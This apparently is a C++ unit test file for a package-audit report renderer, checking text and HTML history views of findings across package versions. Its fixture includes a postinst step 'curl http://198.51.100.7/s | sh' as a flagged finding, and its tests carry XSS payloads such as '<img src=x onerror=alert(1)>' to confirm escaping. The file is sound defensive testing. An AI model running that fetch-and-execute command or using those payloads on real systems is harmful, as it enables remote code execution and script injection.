#include "render/history/history.h"

#include <gtest/gtest.h>

#include <random>
#include <regex>
#include <set>

#include "base/base64.h"
#include "base/digest.h"
#include "render/columns.h"
#include "render/golden.h"

using namespace render;
using evidence::Facet;

namespace {

/// A series in which a step comes in halfway, an account goes out, an endpoint comes and goes.
report::History series(std::size_t versions) {
  report::HistoryCollector c;
  const auto add = [&](Facet facet, std::string word, std::string value, std::string place) {
    evidence::Item item;
    item.facet = facet, item.word = std::move(word), item.value = value;
    c.add(item, value, place);
  };
  for (std::size_t i = 0; i < versions; ++i) {
    report::HistoryVersion v;
    v.product = {"acme-agent", fmt::format("2.{}.0", i), "ACME Monitoring GmbH", "deb", "", base::sha256(std::to_string(i)).hex(), 700'000 + i, {fmt::format("acme_{}.deb", i)}};
    const bool bad = versions > 1 && i >= versions / 2;
    v.verdict = bad ? report::Verdict::fail : report::Verdict::pass;
    v.fail = bad, v.disclosed = 3, v.fresh = bad && i == versions / 2, v.artifacts = 12 + i;
    v.coverage.bytes[static_cast<std::size_t>(evidence::Label::examined)] = 1'400'000;
    v.coverage.bytes[static_cast<std::size_t>(evidence::Label::opaque)] = bad ? 98'304 : 0;
    v.gained = i ? 1 + bad : 0, v.lost = i == 1;
    c.begin(v);
    add(Facet::endpoint, "url", "https://acme.example/beat", "acme.deb//./usr/bin/acme-agent");
    add(Facet::reference, "needs", "libc6", "acme.deb");
    if (bad) add(Facet::step, "install", "curl http://198.51.100.7/s | sh", "acme.deb//postinst");
    if (i == 0) add(Facet::account, "user", "old\x1b[31m", "acme.deb//passwd");
    if (i % 3 == 1) add(Facet::endpoint, "host", "now-and-then.example.org", "acme.deb//<b>x");
  }
  return c.take();
}

}  // namespace

TEST(HistoryText, OneVersion) { expect_golden(history_text(series(1), {}), "history/one.golden"); }
TEST(HistoryText, TwoVersions) { expect_golden(history_text(series(2), {}), "history/two.golden"); }
TEST(HistoryText, FortyVersions) { expect_golden(history_text(series(40), {}), "history/forty.golden"); }

TEST(HistoryText, KeepsItsWidth) {
  for (const std::size_t n : {0u, 1u, 2u, 7u, 40u, 500u})
    for (const unsigned width : {40u, 57u, 80u, 200u}) expect_safe(history_text(series(n), {.width = width}), width);
}

TEST(HistoryText, SurvivesHostileStrings) {
  std::mt19937 random(9);
  const auto noise = [&] {
    std::string out;
    for (unsigned i = 0; i < random() % 70; ++i) out += static_cast<char>(random());
    return out;
  };
  for (int round = 0; round < 100; ++round) {
    auto h = series(1 + random() % 9);
    for (auto& v : h.versions) v.product.name = noise(), v.product.version = noise(), v.product.digest = noise();
    for (auto& l : h.lines) l.word = noise(), l.value = noise(), l.places = {noise()};
    expect_safe(history_text(h, {.product = noise()}), 80);
    EXPECT_EQ(history_html(h, {}).find('\x1b'), std::string::npos);
  }
}

TEST(HistoryText, TellsWhenAFactStood) {
  const auto h = series(7);
  report::HistoryLine line;
  const auto told = [&](std::vector<bool> present) {
    line.present = std::move(present);
    return span_text(h, line);
  };
  EXPECT_EQ(told({0, 0, 1, 1, 1, 1, 1}), "from 2.2.0");
  EXPECT_EQ(told({1, 1, 0, 0, 0, 0, 0}), "until 2.1.0");
  EXPECT_EQ(told({0, 1, 1, 0, 0, 0, 0}), "from 2.1.0 to 2.2.0");
  EXPECT_EQ(told({0, 1, 0, 0, 0, 0, 0}), "in 2.1.0");
  EXPECT_EQ(told({1, 0, 1, 1, 1, 1, 1}), "comes and goes");
  EXPECT_EQ(told({1, 1, 1, 1, 1, 1, 1}), "");
}

TEST(HistoryText, AVersionWithoutANumberHasItsFilesName) {
  auto h = series(3);
  h.versions[0].product.version.clear();
  h.versions[1].product.version.clear(), h.versions[1].product.files.clear();
  EXPECT_EQ(version_label(h, 0), "acme_0.deb");
  EXPECT_EQ(version_label(h, 1), "#2");
  EXPECT_EQ(version_label(h, 2), "2.2.0");
}

TEST(HistoryText, SaysHowManyFactsItLeavesOut) {
  auto h = series(2);
  h.left_out = 700;
  for (int i = 0; i < 40; ++i) h.lines.push_back(h.lines[0]);
  EXPECT_NE(history_text(h, {}).find("the 25 facts that matter most, of 743"), std::string::npos) << history_text(h, {});
}

TEST(HistoryHtml, ThePolicyAllowsExactlyItsScript) {
  const auto text = history_html(series(5), {});
  const auto from = text.rfind("<script>") + 8;
  EXPECT_NE(text.find("script-src 'sha256-" + base::to_base64(base::sha256(text.substr(from, text.find("</script>", from) - from)).bytes) + "'"), std::string::npos);
  for (const char* never : {"onclick", " src=\"", "url(", "@import", "innerHTML", "eval("}) EXPECT_EQ(text.find(never), std::string::npos) << never;
}

// Each row covers every version, whatever the runs.
TEST(HistoryHtml, EveryRowHasAColumnForEachVersion) {
  const auto text = history_html(series(40), {});
  static const std::regex row("<tr data-moved=[^\n]*</tr>"), cell("<td(?: colspan=\"([0-9]+)\")?");
  std::size_t rows = 0;
  for (std::sregex_iterator at(text.begin(), text.end(), row), end; at != end; ++at, ++rows) {
    const std::string one = (*at)[0];
    std::size_t wide = 0;
    for (std::sregex_iterator c(one.begin(), one.end(), cell); c != end; ++c) wide += (*c)[1].matched ? std::stoul((*c)[1]) : 1;
    EXPECT_EQ(wide, 40u) << one;
  }
  EXPECT_EQ(rows, 5u);
}

TEST(HistoryHtml, HostileStringsAddNoMarkup) {
  const auto tags_of = [](const std::string& text) {
    std::map<std::string, int> out;
    static const std::regex tag("<(/?[a-z0-9!]+)");
    for (std::sregex_iterator at(text.begin(), text.end(), tag), end; at != end; ++at) ++out[(*at)[1]];
    return out;
  };
  std::map<std::string, int> wanted;
  for (const std::string attack : {"plain", "</script><img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'><b>", "<!--", "\xff<i>", "</style><style>"}) {
    auto h = series(6);
    for (auto& v : h.versions) v.product.name = v.product.version = v.product.digest = attack;
    for (auto& l : h.lines) l.word = "x", l.value = attack, l.places = {attack};
    const auto tags = tags_of(history_html(h, {}));
    if (wanted.empty()) wanted = tags;
    EXPECT_EQ(tags, wanted) << attack;
  }
}

TEST(HistoryHtml, IsBoundedAndSaysWhatItLeavesOut) {
  auto h = series(200);
  const auto line = h.lines[1];
  while (h.lines.size() < 5000) {
    h.lines.push_back(line);
    for (std::size_t i = 0; i < 200; ++i) h.lines.back().present[i] = i % 2;
  }
  const auto text = history_html(h, {});
  EXPECT_LT(text.size(), 8'000'000u);
  EXPECT_NE(text.find("that matter most are here, "), std::string::npos);
  EXPECT_FALSE(history_html({}, {}).empty());
}
